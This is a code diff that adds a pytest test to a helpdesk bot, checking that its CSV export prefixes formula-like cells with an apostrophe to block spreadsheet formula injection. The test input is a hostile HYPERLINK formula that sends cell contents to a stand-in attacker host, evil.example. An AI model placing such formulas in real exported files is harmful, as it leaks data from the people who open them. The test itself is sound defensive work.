@@ -154,3 +154,21 @@ def test_topics_and_a_knowledge_gap_from_the_ledger(tmp_path, embedder):
     [gap] = knowledge_gaps(ledger, load_topics(ledger))
     assert gap.article["article_id"] == "900"
     assert (gap.tickets_before, gap.deflection_before, gap.tickets_after, gap.deflection_after) == (3, 0.0, 1, 1.0)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_export_cells_a_spreadsheet_would_run_as_a_formula_are_kept_as_text(start):
+    import csv
+    import io
+
+    from helpdesk_bot.topics import KnowledgeGap, Topic
+
+    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
+    gap = KnowledgeGap(topic=Topic(id=1, label=hostile, keywords=[]), examples=[hostile], agent_answers=[hostile],
+                       title=hostile, outline=["Open Settings, then Billing."])
+    header, row = list(csv.reader(io.StringIO(gaps_csv([gap]))))
+    cells = dict(zip(header, row))
+    for column in ("topic", "suggested_title", "example_questions", "agent_answers"):
+        assert cells[column] == "'" + hostile, column
+    assert cells["outline"] == "• Open Settings, then Billing."
+    assert cells["tickets"] == "0"
